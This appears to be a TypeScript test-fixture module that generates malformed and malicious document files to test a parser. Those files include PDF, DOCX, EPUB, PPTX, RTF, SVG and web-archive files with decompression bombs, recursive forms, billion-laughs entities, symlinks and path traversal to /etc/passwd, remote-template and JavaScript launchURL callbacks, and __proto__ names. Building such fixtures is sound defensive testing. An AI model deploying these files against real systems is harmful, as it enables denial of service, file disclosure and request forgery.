import { deflateRawSync, deflateSync } from 'node:zlib'
import { buildCompound } from './build-compound.ts'
import { buildDoc } from './build-doc.ts'
import { paragraph } from './build-docx.ts'
import { bookFiles, buildEpub } from './build-epub.ts'
import { buildZip } from './build-zip.ts'
import {
  catalog,
  document,
  docx,
  epub,
  file,
  type HostileFile,
  MIB,
  onePage,
  PROSE,
  page,
  pdfOf,
  pdfOfPage,
  pdfPage,
  stream,
  times,
  zipOf,
} from './hostile-parts.ts'

const RELATIONSHIPS = 'http://schemas.openxmlformats.org/package/2006/relationships'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const PRESENTATION = 'http://schemas.openxmlformats.org/presentationml/2006/main'
const DRAWING = 'http://schemas.openxmlformats.org/drawingml/2006/main'

/** A PDF of one page with the given content, page attributes and objects. */
const pdfWith = (content: string, resources: string, objects: readonly (string | Uint8Array)[]): Uint8Array =>
  pdfOf([
    catalog,
    onePage,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << ${resources} >> >>`,
    stream(deflateSync(content), '/FlateDecode'),
    ...objects,
  ])

const form = (content: string, resources: string): Uint8Array =>
  stream(
    deflateSync(content),
    `/FlateDecode /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << ${resources} >>`,
  )

const picture = (pixels: number, data: Uint8Array, more: string): Uint8Array =>
  stream(
    data,
    `${more} /Type /XObject /Subtype /Image /Width ${pixels} /Height ${pixels} /BitsPerComponent 8 /ColorSpace /DeviceRGB`,
  )

/** A PNG header with a size, and no pixels. */
const png = (pixels: number): Buffer => {
  const header = Buffer.from(
    '\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\0\0\0\0\0\x08\x06\0\0\0CRC!\0\0\0\0IENDCRC!',
    'latin1',
  )
  header.writeUInt32BE(pixels, 16)
  header.writeUInt32BE(pixels, 20)
  return header
}

const half = (bytes: Uint8Array): Uint8Array => bytes.subarray(0, Math.floor(bytes.length / 2))
const prosePdf = (): Uint8Array =>
  pdfWith(
    `BT /F 12 Tf 50 700 Td (${PROSE}) Tj ET`,
    '/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>',
    [],
  )
const rtf = (body: string): Uint8Array => Buffer.from(`{\\rtf1\\ansi ${body} \\par ${PROSE}}`)
const links = (targets: readonly string[]): string =>
  `<Relationships xmlns="${RELATIONSHIPS}">${targets.join('')}</Relationships>`

function pdfs(url: string): HostileFile[] {
  return [
    file('a PDF of forms in forms, ten times each', 'a.pdf', () =>
      pdfWith('/F0 Do', '/XObject << /F0 5 0 R >>', [
        ...Array.from({ length: 12 }, (_, n) =>
          form(times(10, `/F${n + 1} Do `), `/XObject << /F${n + 1} ${n + 6} 0 R >>`),
        ),
        form('BT ET', ''),
      ]),
    ),
    file('a PDF of a form that draws itself', 'a.pdf', () =>
      pdfWith('/F Do', '/XObject << /F 5 0 R >>', [form('/F Do', '/XObject << /F 5 0 R >>')]),
    ),
    file('a PDF of a font whose letters are drawn with itself', 'a.pdf', () =>
      pdfWith(`BT /T 12 Tf (${times(2000, 'a')}) Tj ET`, '/Font << /T 5 0 R >>', [
        '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /T 5 0 R >> >> >>',
        stream(deflateSync('9 0 d0 BT /T 12 Tf (aaaaaaaaaa) Tj ET'), '/FlateDecode'),
      ]),
    ),
    file('a PDF whose picture is four billion pixels', 'a.pdf', () =>
      pdfWith(`q 9 0 0 9 0 0 cm /I Do Q`, '/XObject << /I 5 0 R >>', [
        picture(65_500, deflateSync(Buffer.alloc(9)), '/FlateDecode'),
      ]),
    ),
    file('a PDF whose picture unpacks to much', 'a.pdf', () =>
      pdfWith(`q 9 0 0 9 0 0 cm /I Do Q`, '/XObject << /I 5 0 R >>', [
        picture(5900, deflateSync(Buffer.alloc(100 * MIB)), '/FlateDecode'),
      ]),
    ),
    file('a PDF of a page as large as a country', 'a.pdf', () =>
      pdfOf([
        catalog,
        onePage,
        '<< /Type /Page /Parent 2 0 R /MediaBox [-1e30 -1e30 1e30 1e30] /UserUnit 1e30 /Contents 4 0 R >>',
        stream(deflateSync('BT ET'), '/FlateDecode'),
      ]),
    ),
    file('a PDF whose objects are said to be a billion in one', 'a.pdf', () =>
      pdfOfPage(stream(deflateSync('1 0 2 9'), '/FlateDecode /Type /ObjStm /N 1000000000 /First 8')),
    ),
    file('a PDF whose objects go on in themselves', 'a.pdf', () =>
      pdfOfPage(stream(deflateSync('4 0 '), '/FlateDecode /Type /ObjStm /N 1 /First 4 /Extends 4 0 R')),
    ),
    file('a PDF whose length is where it points to itself', 'a.pdf', () =>
      pdfOfPage('<< /Length 4 0 R >>\nstream\nBT ET\nendstream'),
    ),
    file('a PDF of a million empty pages', 'a.pdf', () =>
      pdfOf([catalog, `<< /Type /Pages /Count 1000000 /Kids [${times(1_000_000, '3 0 R ')}] >>`, pdfPage, 'null']),
    ),
    file('a PDF that asks for others', 'a.pdf', () =>
      pdfOf([
        `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (${url}a) >> /AA << /WC << /S /JavaScript /JS (app.launchURL\\("${url}b"\\)) >> >> /URI << /Base (${url}) >> >>`,
        onePage,
        pdfPage,
        `<< /Length 0 /F << /FS /URL /F (${url}c) >> >>\nstream\n\nendstream`,
      ]),
    ),
    file('a PDF that is cut in the middle', 'a.pdf', () => half(prosePdf())),
    file('a PDF with a document behind it', 'a.pdf', () => Buffer.concat([prosePdf(), docx({})])),
    file('a PDF inside of a page', 'a.pdf', () => Buffer.concat([page(PROSE), prosePdf()])),
    file('a PDF whose words are of no end', 'a.pdf', () =>
      pdfWith(
        `BT /F 12 Tf 50 700 Td ${times(50_000, `(${PROSE}) Tj `)} ET`,
        '/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>',
        [],
      ),
    ),
  ]
}

function archives(url: string): HostileFile[] {
  return [
    file('a document that is a link to a file of ours', 'a.docx', () =>
      docx({}, [{ name: 'word/document.xml', data: '../../../../../../etc/passwd', stored: true, symlink: true }]),
    ),
    file('a book whose chapter is a link to a file of ours', 'a.epub', () =>
      buildZip(
        zipOf(bookFiles({ parts: [{ body: `<p>${PROSE}</p>` }, { body: 'x' }] })).map((part) =>
          String(part.name).endsWith('ch2.xhtml')
            ? Object.assign(part, { data: '/etc/passwd', stored: true, symlink: true })
            : part,
        ),
      ),
    ),
    file('names with zeros, turned around, and without end', 'a.docx', () =>
      docx({}, [
        { name: 'word/document.xml\0.png', data: 'x' },
        { name: 'word/\u202Elmx.tnemucod', data: 'x' },
        { name: 'x'.repeat(65_535), data: 'x' },
        { name: Uint8Array.of(0xc0, 0xae, 0xc0, 0xae, 0x2f, 0x78), data: 'x' },
        { name: '__proto__/constructor', data: 'x' },
        { name: 'CON', data: 'x' },
      ]),
    ),
    file('a book of ids that every object has', 'a.epub', () =>
      buildEpub({
        parts: [{ body: `<p>${PROSE}</p>` }],
        manifest: times(
          1,
          '<item id="__proto__" href="toString" media-type="application/xhtml+xml"/><item id="constructor" href="__proto__" media-type="application/xhtml+xml" fallback="__proto__"/>',
        ),
        spine: '<itemref idref="__proto__"/><itemref idref="constructor"/><itemref idref="p1"/>',
      }),
    ),
    file('a book whose chapters stand in for each other', 'a.epub', () =>
      buildEpub({
        parts: [{ body: `<p>${PROSE}</p>` }],
        manifest:
          '<item id="a" href="a.bin" media-type="x/y" fallback="b"/><item id="b" href="b.bin" media-type="x/y" fallback="a"/>',
        spine: '<itemref idref="a"/><itemref idref="p1"/>',
      }),
    ),
    file('a book of chapters elsewhere', 'a.epub', () =>
      buildEpub({
        parts: [{ body: `<p>${PROSE}</p><iframe src="${url}"/><object data="${url}"/><script src="${url}"/>` }],
        manifest: `<item id="far" href="${url}far.xhtml" media-type="application/xhtml+xml"/><item id="file" href="file:///etc/passwd" media-type="application/xhtml+xml"/>`,
        spine: '<itemref idref="far"/><itemref idref="file"/><itemref idref="p1"/>',
      }),
    ),
    file('a book with a spine of a million', 'a.epub', () =>
      buildEpub({ parts: [{ body: `<p>${PROSE}</p>` }], spine: times(1_000_000, '<itemref idref="p1"/>') }),
    ),
    file('a document whose parts stand elsewhere', 'a.docx', () =>
      docx({
        'word/_rels/document.xml.rels': links([
          `<Relationship Id="r1" Type="${OFFICE}/attachedTemplate" Target="${url}t.dotm" TargetMode="External"/>`,
          `<Relationship Id="r2" Type="${OFFICE}/styles" Target="${url}styles.xml" TargetMode="External"/>`,
          `<Relationship Id="r3" Type="${OFFICE}/footnotes" Target="file:///etc/passwd" TargetMode="External"/>`,
          `<Relationship Id="r4" Type="${OFFICE}/endnotes" Target="../../../../etc/passwd"/>`,
          `<Relationship Id="r5" Type="${OFFICE}/aFChunk" Target="${url}chunk.html" TargetMode="External"/>`,
        ]),
        ...document(`${paragraph(PROSE)}<w:altChunk xmlns:r="${OFFICE}" r:id="r5"/>`),
      }),
    ),
    file('a document whose parts lead to each other', 'a.docx', () =>
      docx({
        '_rels/.rels': links([`<Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="_rels/.rels"/>`]),
      }),
    ),
    file('styles that rest on each other', 'a.docx', () =>
      docx({
        'word/styles.xml': `<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${Array.from({ length: 50_000 }, (_, n) => `<w:style w:type="paragraph" w:styleId="s${n}"><w:basedOn w:val="s${(n + 1) % 50_000}"/></w:style>`).join('')}</w:styles>`,
        ...document(
          Array.from(
            { length: 2000 },
            (_, n) => `<w:p><w:pPr><w:pStyle w:val="s${n * 25}"/></w:pPr><w:r><w:t>${PROSE}</w:t></w:r></w:p>`,
          ).join(''),
        ),
      }),
    ),
    file('a presentation of one slide, a million times', 'a.pptx', () => {
      const entries = zipOf({
        'ppt/presentation.xml': `<p:presentation xmlns:p="${PRESENTATION}" xmlns:r="${OFFICE}"><p:sldIdLst>${times(1_000_000, '<p:sldId r:id="r1"/>')}</p:sldIdLst></p:presentation>`,
        'ppt/_rels/presentation.xml.rels': links([`<Relationship Id="r1" Type="${OFFICE}/slide" Target="slide.xml"/>`]),
        'ppt/slide.xml': `<p:sld xmlns:p="${PRESENTATION}" xmlns:a="${DRAWING}"><p:sp><a:p><a:t>${PROSE}</a:t></a:p></p:sp></p:sld>`,
      })
      return buildZip(entries)
    }),
    file('a presentation whose slides are elsewhere', 'a.pptx', () =>
      buildZip(
        zipOf({
          'ppt/presentation.xml': `<p:presentation xmlns:p="${PRESENTATION}" xmlns:r="${OFFICE}"><p:sldId r:id="r1"/><p:sldId r:id="r2"/></p:presentation>`,
          'ppt/_rels/presentation.xml.rels': links([
            `<Relationship Id="r1" Type="${OFFICE}/slide" Target="../../../etc/passwd"/>`,
            `<Relationship Id="r2" Type="${OFFICE}/slide" Target="${url}slide.xml" TargetMode="External"/>`,
          ]),
        }),
      ),
    ),
    file('a page nested a million deep', 'a.html', () =>
      Buffer.from(`<html><body>${times(1_000_000, '<div>')}${PROSE}`),
    ),
    file('a text in one line', 'a.txt', () => Buffer.from(times(200_000, `${PROSE} `))),
    file('subtitles without end', 'a.srt', () => Buffer.from(times(300_000, '00:00:01,000 --> 00:00:02,000\nSo\n\n'))),
    file('a document that is also a book', 'a.epub', () =>
      buildZip([...zipOf(bookFiles({ parts: [{ body: `<p>${PROSE}</p>` }] })), ...zipOf(document(paragraph(PROSE)))]),
    ),
    file('a picture with a document behind it', 'a.docx', () => Buffer.concat([Buffer.from('GIF89a'), docx({})])),
    file('a document that is cut in the middle', 'a.docx', () => half(docx({}))),
    file('a book that is cut in the middle', 'a.epub', () => half(epub(`<p>${times(50, PROSE)}</p>`))),
    file('a document whose parts are locked', 'a.docx', () =>
      buildZip(zipOf(document(paragraph(PROSE))).map((part) => Object.assign(part, { flags: 1 }))),
    ),
    file('an archive that ends sixty thousand times', 'a.docx', () =>
      buildZip(zipOf(document(paragraph(PROSE))), { after: times(60_000, 'PK\x05\x06' + '\0'.repeat(18)) }),
    ),
    file('packed bytes that repeat their own tables', 'a.docx', () =>
      docx({}, [
        {
          name: 'word/footnotes.xml',
          data: '',
          packed: Buffer.concat(Array.from({ length: 20_000 }, () => deflateRawSync('', { finishFlush: 2 }))),
          unpackedSize: 1,
        },
      ]),
    ),
  ]
}

function others(url: string): HostileFile[] {
  return [
    file('a picture of four billion pixels', 'a.pdf', () => png(65_535)),
    file('a drawing with scripts and a billion laughs', 'a.pdf', () =>
      Buffer.from(
        `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha">]><svg xmlns="http://www.w3.org/2000/svg" onload="x()"><script href="${url}"/><text>${times(1000, '&a;')}</text></svg>`,
      ),
    ),
    file('an RTF file of groups without end', 'a.doc', () => rtf(times(1_000_000, '{\\b '))),
    file('an RTF file that asks for others', 'a.doc', () =>
      rtf(
        `{\\field{\\*\\fldinst INCLUDETEXT "${url}a"}{\\fldrslt x}}{\\*\\template ${url}b}{\\object\\objupdate{\\*\\objdata 0105}}{\\field{\\*\\fldinst INCLUDEPICTURE "file:///etc/passwd"}}`,
      ),
    ),
    file('a web archive of parts in parts', 'a.doc', () =>
      Buffer.from(
        Array.from(
          { length: 20_000 },
          (_, n) => `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b${n}"\r\n\r\n--b${n}\r\n`,
        ).join(''),
      ),
    ),
    file('a web archive of a page that is packed in lines', 'a.doc', () =>
      Buffer.from(
        `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\nContent-Location: ${url}\r\n\r\n${times(100_000, `${'A'.repeat(76)}\r\n`)}\r\n--b--`,
      ),
    ),
    file('a Word file that is cut in the middle', 'a.doc', () =>
      half(buildDoc({ paragraphs: [{ runs: [{ text: PROSE.repeat(50) }] }] })),
    ),
    file('a Word file of folders in a circle', 'a.doc', () => {
      const bytes = Buffer.from(buildCompound({ WordDocument: Buffer.alloc(5000), 'a/b': Buffer.alloc(9) }))
      // Every entry of the directory names itself as its neighbor and as its child (MS-CFB, section 2.6.1).
      for (let at = 512; at + 128 <= bytes.length; at += 128)
        if (bytes[at + 66] === 1 || bytes[at + 66] === 2)
          for (const field of [68, 72, 76]) bytes.writeUInt32LE(((at - 512) / 128) % 4, at + field)
      return bytes
    }),
    file('captions in one line', 'a.vtt', () => Buffer.from(`WEBVTT\n\n00:00.000 --> 00:01.000\n${times(MIB, 'a ')}`)),
    file('captions of arrows', 'a.srt', () => Buffer.from(times(60_000, '1\n00:00:00,000 --> 00:00:00,000\n'))),
    file('a page of forms of letters', 'a.html', () => page(`<p>${times(200_000, 'e\u0301\u0327')}</p>`)),
    file('a page of a data address', 'a.html', () =>
      page(`<img src="data:image/png;base64,${times(2_000_000, 'AAAA')}"><p>${PROSE}</p>`),
    ),
    file('a page of facts in circles', 'a.html', () =>
      page(
        `<script type="application/ld+json">${times(200_000, '{"@graph":[')}${times(200_000, ']}')}</script><p>${PROSE}</p>`,
      ),
    ),
  ]
}

/** More malicious files, by attack. */
export const trickyFiles = (url: string): HostileFile[] => [...pdfs(url), ...archives(url), ...others(url)]
